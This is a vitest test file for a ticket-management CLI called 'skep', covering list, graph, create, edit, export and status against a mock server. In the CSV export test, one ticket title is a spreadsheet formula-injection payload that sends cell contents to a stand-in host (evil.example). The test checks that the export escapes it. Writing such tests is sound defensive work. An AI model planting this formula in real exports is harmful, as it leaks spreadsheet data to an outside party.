import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { scriptedServer, skep } from '../../../test/harness/cli.ts';
import { plainProject } from '../../../test/harness/plain-project.ts';
import type { Answer, Call } from '../../../test/harness/cli.ts';
import { csvLine } from '../../kernel/csv.ts';

const at = '2026-01-02T03:04:05.000Z';
const uuid = '11111111-2222-4333-8444-555555555555';
const specId = 'cccc1111-2222-4333-8444-555555555555';
const ticket = (number: number, more: object = {}) => ({
  id: `TKT-${String(number).padStart(3, '0')}`,
  tenant_id: uuid,
  session_id: null,
  spec_id: specId,
  project_id: uuid,
  type: 'task',
  title: `Title ${number}`,
  description: '',
  acceptance_criteria: [],
  status: 'ready',
  status_reason: null,
  proof: null,
  parent_id: null,
  depends_on: [],
  priority: 0,
  estimate: null,
  assigned_vm: null,
  branch_name: null,
  pr_url: null,
  files: [],
  observed: [],
  attempts: 0,
  created_at: at,
  updated_at: at,
  ...more,
});
const many = Array.from({ length: 1_200 }, (_, i) => ticket(i + 1));
const session = {
  id: 'bbbb1111-2222-4333-8444-555555555555',
  project_id: uuid,
  spec_id: specId,
  epic_id: null,
  description: '',
  state: 'building',
  progress: 0,
  created_at: at,
  updated_at: at,
};
const refused = {
  ...{ id: uuid, project_id: uuid, spec_id: specId, branch: 'skep/todo', state: 'refused' },
  ...{ reason: 'The repository has a branch skep/todo already', hint: 'rename it' },
  ...{ base_sha: null, head_sha: null, published_sha: null, publish_error: null, checks: [], notes: [], merge_count: 0 },
  ...{ created_at: at, updated_at: at },
};
const graph = {
  nodes: [
    ticket(4, { depends_on: ['TKT-002', 'TKT-003'], status: 'blocked', title: 'Ship\u001b[31m' }),
    ticket(1, { status: 'completed' }),
    ticket(9, { type: 'epic', status: 'running', title: 'Todo' }),
    ticket(2, { depends_on: ['TKT-001'] }),
    ticket(3, { depends_on: ['TKT-001'], status: 'running' }),
  ],
  edges: [
    { ticket_id: 'TKT-004', depends_on: 'TKT-002' },
    { ticket_id: 'TKT-004', depends_on: 'TKT-003' },
    { ticket_id: 'TKT-002', depends_on: 'TKT-001' },
    { ticket_id: 'TKT-003', depends_on: 'TKT-001' },
  ],
  ready: ['TKT-002'],
  critical_path: ['TKT-002', 'TKT-004'],
};

let tickets: ReturnType<typeof ticket>[];
function answer({ method, path, body }: Call): Answer {
  const url = new URL(path, 'http://server');
  if (url.pathname === '/health') return { json: { status: 'ok' } };
  if (url.pathname === '/ready')
    return { status: 503, fault: 'database_unavailable', json: { error: 'The database does not answer' } };
  if (url.pathname === '/api/brake') return { status: 404, fault: 'route_not_found', json: { error: 'No such route' } };
  if (url.pathname === '/api/hitl') return { json: { sessions: [session] } };
  if (url.pathname.startsWith('/api/hitl/')) return { json: session };
  if (url.pathname === '/api/projects') return { json: { projects: [plainProject({ id: uuid, name: 'demo' })] } };
  if (url.pathname === '/api/tickets/graph') return { json: graph };
  if (url.pathname === '/api/tickets/TKT-007') return { json: ticket(7) };
  if (url.pathname === '/api/trunks') return { json: { trunks: [refused] } };
  if (url.pathname === `/api/trunks/${uuid}/prepare`) return { json: { ...refused, state: 'preparing', reason: null } };
  if (url.pathname.endsWith('/cancel')) return { json: { tickets: [ticket(1, { status: 'cancelled' })] } };
  if (url.pathname === '/api/tickets' && method === 'GET') {
    const from = Number(url.searchParams.get('after') ?? 0);
    const to = from + Number(url.searchParams.get('limit') ?? 100);
    return { json: { tickets: tickets.slice(from, to), next: to < tickets.length ? String(to) : null } };
  }
  return { json: { ...ticket(7), ...(body as object) } };
}

let server: Awaited<ReturnType<typeof scriptedServer>>;
beforeEach(async () => {
  tickets = [ticket(1), ticket(2, { status: 'failed', depends_on: ['TKT-001'], title: 'Größe 漢字', priority: -5 })];
  server = await scriptedServer(answer);
});
afterEach(() => server.close());
const here = () => ({ env: { SKEP_SERVER: server.url } });

describe('skep ticket list', () => {
  it('prints aligned columns', async () => {
    const { out } = await skep(['ticket', 'list'], here());
    expect(out).toBe(
      [
        'ID       TYPE  STATUS  PRIORITY  DEPENDS ON  TITLE',
        'TKT-001  task  ready          0              Title 1',
        'TKT-002  task  failed        -5  TKT-001     Größe 漢字',
        '',
      ].join('\n'),
    );
  });

  it('has colour on a terminal that has it, and keeps its columns', async () => {
    const { out } = await skep(['ticket', 'list'], { ...here(), isTerminal: true, hasColour: true });
    expect(out).toContain('\u001b[31mfailed\u001b[39m');
    expect(out.replaceAll(/\u001b\[\d+m/g, '')).toBe((await skep(['ticket', 'list'], here())).out);
  });

  it('reads every page, and no more than asked for', async () => {
    tickets = many;
    const all = await skep(['ticket', 'list', '--json'], here());
    expect(
      all.out
        .trimEnd()
        .split('\n')
        .map(line => (JSON.parse(line) as { id: string }).id),
    ).toEqual(many.map(({ id }) => id));
    server.calls.splice(0);
    const some = await skep(['ticket', 'list', '--limit', '501'], here());
    expect(some.out.split('\n')).toHaveLength(1 + 501 + 1);
    expect(server.calls.map(({ path }) => path)).toEqual(['/api/tickets?limit=500', '/api/tickets?after=500&limit=1']);
  });

  it('filters by what a person knows: a name, a shortened id', async () => {
    await skep(
      ['ticket', 'list', '--status', 'ready', '--project', 'demo', '--session', 'bbbb', '--spec', 'cccc', '--parent', '3'],
      here(),
    );
    const { searchParams } = new URL(server.calls.at(-1)?.path ?? '', 'http://server');
    expect(Object.fromEntries(searchParams)).toEqual({
      status: 'ready',
      project_id: uuid,
      session_id: session.id,
      spec_id: specId,
      parent_id: 'TKT-003',
      limit: '500',
    });
  });

  it('says what a state may be', async () => {
    const { code, err } = await skep(['ticket', 'list', '--status', 'done'], here());
    expect(code).toBe(2);
    expect(err).toContain('Allowed choices are pending, blocked, ready');
  });

  it('says on stderr that there is nothing', async () => {
    tickets = [];
    expect(await skep(['ticket', 'list'], here())).toMatchObject({ code: 0, out: '', err: 'There are no such tickets.\n' });
    expect(await skep(['ticket', 'list', '--json'], here())).toMatchObject({ code: 0, out: '', err: '' });
  });
});

describe('skep ticket graph', () => {
  it('draws what can be done first at the top, and deeper what waits', async () => {
    const { out } = await skep(['ticket', 'graph', '--session', 'bbbb'], here());
    expect(out).toBe(
      [
        '  TKT-009  running    Todo',
        '  TKT-001  completed  Title 1',
        '* TKT-002  ready        Title 2  <- TKT-001',
        '  TKT-003  running      Title 3  <- TKT-001',
        '* TKT-004  blocked        Ship [31m  <- TKT-002, TKT-003',
        '',
        'done           1 of 4',
        'ready          TKT-002',
        'critical path  TKT-002 -> TKT-004',
        '',
      ].join('\n'),
    );
  });

  it('asks which', async () => {
    expect((await skep(['ticket', 'graph'], here())).err).toContain('Give either --session or --spec');
  });
});

describe('skep ticket create, edit, cancel', () => {
  it('sends what was given and nothing else', async () => {
    await skep(
      [
        'ticket',
        'create',
        '--project',
        'demo',
        '--title',
        'Deploy',
        '--depends-on',
        'TKT-001, 2',
        '--criterion',
        'a',
        '--criterion',
        'b',
      ],
      here(),
    );
    await skep(['ticket', 'edit', '3', '--depends-on', '', '--priority', '-5'], here());
    await skep(['ticket', 'cancel', 'tkt-1', '--cascade', '--reason', 'enough'], here());
    expect(server.calls.filter(({ method }) => method !== 'GET').map(({ method, path, body }) => [method, path, body])).toEqual([
      [
        'POST',
        '/api/tickets',
        { project_id: uuid, type: 'task', title: 'Deploy', depends_on: ['TKT-001', 'TKT-002'], acceptance_criteria: ['a', 'b'] },
      ],
      ['PATCH', '/api/tickets/TKT-003', { depends_on: [], priority: -5 }],
      ['POST', '/api/tickets/TKT-001/cancel', { reason: 'enough', cascade: true }],
    ]);
  });

  it.each([
    [['show', 'three'], "'three' is no id of a ticket"],
    [['edit', '3'], 'There is nothing to change'],
    [['create', '--project', 'demo', '--title', 'x', '--priority', '1e3'], "'1e3' is not a whole number from -1000 to 1000"],
    [['create', '--project', 'demo', '--title', 'x', '--type', 'epic'], 'Allowed choices are feature, task, bug'],
  ])('refuses %j', async (words, why) => {
    const { code, err } = await skep(['ticket', ...words], here());
    expect(code).toBe(2);
    expect(err).toContain(why);
    expect(server.calls).toEqual([]);
  });
});

describe('a ticket whose branch could not be made', () => {
  it('says why nothing works on it, and what to do', async () => {
    const { out } = await skep(['ticket', 'show', '7'], here());
    expect(out).toContain(
      'Its branch skep/todo could not be made: The repository has a branch skep/todo already\n  hint: rename it\nnext  skep ticket retry TKT-007',
    );
  });

  it('has it made again by retry', async () => {
    const { out, code } = await skep(['ticket', 'retry', '7'], here());
    expect([code, out.trimEnd().split('\n').at(-1)]).toEqual([0, 'Its branch skep/todo is being made again']);
    expect(server.calls.map(({ method, path }) => `${method} ${path}`)).toContain(`POST /api/trunks/${uuid}/prepare`);
    expect(server.calls.map(({ path }) => path)).not.toContain('/api/tickets/TKT-007/retry');
  });
});

describe('skep ticket export', () => {
  it('writes CSV that a spreadsheet reads as it is meant', async () => {
    tickets = [
      ticket(1, {
        title: '=HYPERLINK("http://evil.example?"&A1)',
        description: 'a,b\r\n"c"',
        priority: -5,
        depends_on: ['TKT-002', 'TKT-003'],
      }),
    ];
    const { out } = await skep(['ticket', 'export'], here());
    const [head = '', ...rest] = out.split('\r\n');
    expect(head.split(',').slice(0, 6)).toEqual(['id', 'type', 'status', 'status_reason', 'proof', 'title']);
    expect(rest.join('\r\n')).toContain(
      `TKT-001,task,ready,,,"'=HYPERLINK(""http://evil.example?""&A1)","a,b\r\n""c""",,,"TKT-002\nTKT-003",-5,`,
    );
  });

  it('writes a JSON array over all pages', async () => {
    tickets = many;
    expect(JSON.parse((await skep(['ticket', 'export', '--format', 'json'], here())).out)).toEqual(many);
    tickets = [];
    expect(JSON.parse((await skep(['ticket', 'export', '--json'], here())).out)).toEqual([]);
  });

  it.each([
    [['a', 1, null], 'a,1,\r\n'],
    [[-5, '-5', '+a', '@b', '\tc'], `-5,'-5,'+a,'@b,"'\tc"\r\n`.replace(`"'\tc"`, `'\tc`)],
    [['a b', ' a', 'a\nb', 'say "a"'], 'a b," a","a\nb","say ""a"""\r\n'],
  ])('quotes %j', (cells, line) => {
    expect(csvLine(cells)).toBe(line);
  });
});

describe('skep status', () => {
  it('counts tickets by state and says what is not ready', async () => {
    const { out } = await skep(['status', '--json'], here());
    expect(JSON.parse(out)).toEqual({
      server: server.url,
      health: 'ok',
      ready: 'no: The database does not answer',
      brake: null,
      tickets: { ready: 1, failed: 1 },
    });
    expect((await skep(['status'], here())).out).toMatch(/^failed {2}1$/m);
  });
});
